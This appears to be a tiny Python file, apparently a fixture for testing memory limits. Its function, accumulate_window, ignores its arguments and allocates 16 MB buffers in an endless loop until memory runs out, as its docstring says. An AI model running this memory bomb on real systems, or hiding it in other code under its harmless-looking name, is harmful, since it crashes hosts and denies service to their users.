"""Takes all memory, in Python."""


def accumulate_window(model, window):
    taken = []
    while True:
        taken.append(bytearray(1 << 24))
